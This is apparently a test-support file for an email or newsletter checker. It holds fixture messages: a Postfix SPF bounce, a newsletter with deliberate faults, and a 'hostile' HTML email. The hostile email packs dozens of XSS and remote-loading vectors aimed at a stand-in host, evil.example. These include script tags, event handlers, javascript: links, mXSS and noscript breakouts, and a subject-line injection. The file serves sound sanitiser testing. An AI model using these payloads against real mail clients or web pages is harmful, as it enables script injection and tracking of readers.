/** What people paste: a bounce, messages with findings, one that means harm. Test support. */

const lines = (...text: readonly string[]): string => `${text.join('\r\n')}\r\n`;

/** As Postfix returns it (RFC 3464): the receiver found 192.0.2.99 not allowed by the SPF record of shop.test. */
export const bounce = lines(
  'Return-Path: <>',
  'From: Mail Delivery System <MAILER-DAEMON@mail.shop.test>',
  'To: news@shop.test',
  'Subject: Undelivered Mail Returned to Sender',
  'Date: Thu, 26 Nov 2026 10:00:00 +0000',
  'Message-ID: <20261126100000.1@mail.shop.test>',
  'Auto-Submitted: auto-replied',
  'MIME-Version: 1.0',
  'Content-Type: multipart/report; report-type=delivery-status; boundary="b1"',
  '',
  '--b1',
  'Content-Type: text/plain; charset=us-ascii',
  '',
  'This is the mail system at host mail.shop.test.',
  '',
  '<person@receiver.example>: host mx.receiver.example[198.51.100.5] said: 550 5.7.23',
  '    <person@receiver.example>: SPF validation failed for shop.test: 192.0.2.99 is',
  '    not allowed to send (in reply to RCPT TO command)',
  '',
  '--b1',
  'Content-Type: message/delivery-status',
  '',
  'Reporting-MTA: dns; mail.shop.test',
  'Arrival-Date: Thu, 26 Nov 2026 09:59:58 +0000',
  '',
  'Final-Recipient: rfc822; person@receiver.example',
  'Action: failed',
  'Status: 5.7.23',
  'Remote-MTA: dns; mx.receiver.example',
  'Diagnostic-Code: smtp; 550 5.7.23 <person@receiver.example>: SPF validation failed for shop.test: 192.0.2.99 is not allowed to send',
  '',
  '--b1',
  'Content-Type: message/rfc822',
  '',
  'Received: from mail.shop.test (mail.shop.test [192.0.2.99]) by mail.shop.test with ESMTP id 1; Thu, 26 Nov 2026 09:59:58 +0000',
  'From: Shop <news@shop.test>',
  'To: person@receiver.example',
  'Subject: News',
  'Date: Thu, 26 Nov 2026 09:59:58 +0000',
  'Message-ID: <1@shop.test>',
  '',
  'News.',
  '--b1--',
);

const head = (subject: string): readonly string[] => [
  'From: Shop <news@shop.test>',
  'To: person@receiver.example',
  `Subject: ${subject}`,
  'Date: Thu, 26 Nov 2026 10:00:00 +0000',
  `Message-ID: <${subject.length}.a@shop.test>`,
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
];

/** A newsletter with faults that a check finds: a link that says another place than it leads to, a picture without size and words, no way out. */
export const newsletter = lines(
  ...head('A newsletter'),
  '<!DOCTYPE html><html><head><title>News</title></head><body>',
  '<p>Dear reader, these are the news of the week.</p>',
  '<p><a href="http://other.example/login">https://shop.test/login</a></p>',
  '<p><img src="https://pictures.example/a.png"></p>',
  '<p><a href="http://192.0.2.4/x">Read more</a></p>',
  '</body></html>',
);

/** The same with the first fault mended. */
export const betterNewsletter = newsletter.replace('http://other.example/login', 'https://shop.test/login');

/** Everything by which a message has ever tried to run, to load or to break out. */
export const hostile = lines(
  ...head('"><script>top.pwned=1</script>'),
  '<!DOCTYPE html><html><head><title></title>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preconnect" href="https://evil.example">',
  '<style>@import "https://evil.example/b.css"; body{background:url(https://evil.example/c.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff2)} p{font-family:x}</style>',
  '<script>top.pwned=1;fetch("https://evil.example/d")</script><script src="https://evil.example/e.js"></script>',
  '</head><body onload="top.pwned=1" background="https://evil.example/g.png">',
  '<p id="shown">Hello</p>',
  '<img src="https://evil.example/h.png" onerror="top.pwned=1"><img srcset="https://evil.example/i.png 1x" src=x onerror=top.pwned=1>',
  '<svg onload="top.pwned=1"><script>top.pwned=1</script><image href="https://evil.example/j.png"/><foreignObject><iframe src="javascript:top.pwned=1"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
  '<iframe src="https://evil.example/k"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>',
  '<object data="https://evil.example/l"></object><embed src="https://evil.example/m"><video src="https://evil.example/n" poster="https://evil.example/o.png" autoplay></video><audio src="https://evil.example/p" autoplay></audio>',
  '<form action="https://evil.example/q"><input autofocus onfocus="top.pwned=1"><button>Sign in</button></form>',
  '<a href="javascript:top.pwned=1">Press</a> <a href="https://evil.example/r" target="_top" ping="https://evil.example/s">Press too</a>',
  '<details open ontoggle="top.pwned=1"><summary>x</summary></details><marquee onstart="top.pwned=1">x</marquee>',
  '<div style="background-image:url(https://evil.example/t.png);position:fixed;inset:0;z-index:9">over everything</div>',
  '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript><template><script>top.pwned=1</script></template>',
  '</body></html>',
);
